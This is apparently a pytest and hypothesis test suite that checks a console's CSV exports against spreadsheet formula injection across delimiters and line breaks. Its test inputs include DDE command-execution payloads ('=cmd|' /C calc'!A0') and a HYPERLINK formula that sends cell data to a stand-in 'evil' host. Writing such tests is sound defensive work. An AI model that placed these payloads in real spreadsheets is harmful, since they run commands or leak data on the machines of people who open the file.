"""Every CSV the console writes quotes every field, and no cell a reader makes of it, splitting at ``,``, ``;`` or a
tab (a locale's separator) and at any line break, starts a formula: checked by parsing what is written."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from broker.console_accounts import ConsoleAccounts
from puente.console import ConsoleConfig, create_app
from puente.console.core import csv_lines
from puente.console.views import cell

from .conftest import FakeIndex, Sink, _decision, _sign_in, local_client

FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
TRIGGERS = (*FORMULA, "\t", "\r")
DELIMITERS = (",", ";", "\t")  # the file's own, and those a locale's spreadsheet may split at instead
LEAD = re.compile(r'[\s"]*')  # what a reader may pass over before a cell's first character: blanks, breaks, quotes
QUOTED_LINES = re.compile(r'(?:"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*\r\n)+')  # a line break may be inside a field


def _runs(field: str) -> bool:
    """Whether a cell a reader made starts a formula: after any blanks, line breaks and double quotes, one of its
    characters. Not the placeholder for "none", a sign alone in its cell: split elsewhere than at the file's own
    ``,``, it is followed by that ``,`` and the next field's quote, which no formula parses."""
    rest = field[LEAD.match(field).end():]  # type: ignore[union-attr]
    return rest.startswith(FORMULA) and rest != "-" and not rest.startswith('-,"')


def _formulas(raw: str) -> list[tuple[str, str]]:
    """Every cell of ``raw``, a CSV file, that runs as a formula once ``csv.reader`` parses it at each delimiter:
    a reader of the file's own ``,``, and readers of a locale's ``;`` or tab, for which its quotes mean another thing
    and any line break ends a row (``newline=""``: a lone CR too)."""
    found = []
    for delimiter in DELIMITERS:
        for row in csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter):
            found += [(delimiter, field) for field in row if _runs(field)]
    return found


def _written(*cells: object) -> str:
    """One row of ``cells`` as the console writes it, under a header."""
    return "".join(csv_lines([f"h{n}" for n in range(len(cells))], iter([list(cells)])))


@pytest.mark.parametrize("text", [
    'note\n=HYPERLINK("http://evil/"&A1)', "note\r\n@SUM(1+1)*cmd|' /C calc'!A0", "note\r=1+1",
    "SNM:9;\"=cmd|' /C calc'!A0", 'SNM:9; "" =cmd', "a,\"+1", '"=1', "x\t\"@A1", "SNM:9;=cmd|' /C calc'!A0",
])
def test_no_reader_splitting_at_any_separator_or_break_finds_a_formula(text: str) -> None:
    """The reviewer's cells, first or not in their row: a line break inside a cell ends a row for a reader at ``;``
    (it reads the file's quotes as text after its first ``,``), and ``""`` before a formula is read as an empty
    quoted start; so every trigger after a split, blanks and quotes between, is led by ``'`` right before it."""
    for row in (["x", text], [text, "x"]):
        raw = _written(*row)
        assert _formulas(raw) == [], raw
        assert list(csv.reader(io.StringIO(raw, newline="")))[1] == [cell(v) for v in row]


@pytest.mark.parametrize(("text", "written"), [
    ("SNM:9;=cmd|' /C calc'!A0", "SNM:9;'=cmd|' /C calc'!A0"),
    ("marking R;@SUM(9*9) not shared", "marking R;'@SUM(9*9) not shared"),
    ("a, +1", "a, '+1"),
    ("a\t-1", "a\t'-1"),
    ("a; \uff1d1", "a; '\uff1d1"),
    ("a;\t=x", "a;'\t'=x"),
    (" \t=x", "' \t'=x"),
    ("=1;=2", "'=1;'=2"),
    ("note\n=HYPERLINK(1)", "note\n'=HYPERLINK(1)"),
    ("note\r\n@SUM(1)", "note\r\n'@SUM(1)"),
    ("\n+x", "'\n'+x"),
    ('SNM:9;"=cmd', 'SNM:9;"\'=cmd'),
    ('a, "" -1', 'a, "" \'-1'),
    ('"=1', '"\'=1'),
    ("ALERT;-5", "ALERT;'-5"),
    ("4.6, -74.08", "4.6, '-74.08"),
])
def test_a_formula_after_a_separator_is_led_by_a_quote(text: str, written: str) -> None:
    """A trigger after ``,`` ``;`` a tab, CR or LF, or at the cell's start, blanks and double quotes between, is led
    by ``'`` right before it, as at the cell's start; the ``'`` stays in the text a ``,`` reader sees."""
    assert cell(text) == written


@pytest.mark.parametrize("text", ["a;b", "1-2;x", "x@y, z", "a=1,b=2", "SNM:9; plain", "-", 'a;"b', "a\nb"])
def test_separators_followed_by_no_formula_are_left_as_they_are(text: str) -> None:
    """Only a trigger after a separator is marked: other text is written as it is."""
    assert cell(text) == text


TEXT = st.lists(st.one_of(st.sampled_from([*TRIGGERS, ",", ";", " ", "\u3000", "\n", "\r\n", "'", '"', '""']),
                          st.text(max_size=3)), max_size=12).map("".join)


@given(st.lists(st.one_of(TEXT, st.just("-")), min_size=1, max_size=3))
def test_no_reader_finds_a_formula_in_a_written_row(cells: list[str]) -> None:
    """Whatever the cells, wherever in their row, no cell that ``csv.reader`` makes of the written file, splitting at
    ``,`` ``;`` or tab, starts a formula; and a ``,`` reader reads back each cell as written."""
    raw = _written(*cells)
    assert _formulas(raw) == [], raw
    assert list(csv.reader(io.StringIO(raw, newline="")))[1] == [cell(v) for v in cells]


def test_every_csv_route_quotes_every_field_and_no_piece_runs(accounts: ConsoleAccounts, sink: Sink) -> None:
    """The reviewer's rows through /search.csv, and /indicators.csv: every line's every field in double quotes, and
    no cell a reader makes of it at ``,`` ``;`` (as Excel in es-CO does) or tab starts a formula."""
    rows = [_decision(1, "SNM:9;=cmd|' /C calc'!A0", "USA", "WITHHOLD", reasons=["marking R;@SUM(9*9) not shared"],
                      rules=["r1;=1+1"]),
            _decision(2, 'A-2;"=cmd', "USA", "WITHHOLD", reasons=['note\n=HYPERLINK("http://evil/"&A1)'])]
    client = local_client(create_app(ConsoleConfig(lambda: FakeIndex(rows), accounts, sink)), follow_redirects=False)
    assert _sign_in(client, "ana").status_code == 303
    answers = [client.get(path) for path in ("/search.csv", "/indicators.csv?table=shared",
                                             "/indicators.csv?table=withheld", "/indicators.csv?table=latency")]
    assert [a.status_code for a in answers] == [200] * 4
    exported = answers[0].text
    assert "SNM:9;'=cmd" in exported and "r1;'=1+1" in exported and "R;'@SUM" in exported
    for answer in answers:
        assert len(answer.text.splitlines()) >= 2 and QUOTED_LINES.fullmatch(answer.text), answer.text
        assert _formulas(answer.text) == [], answer.text
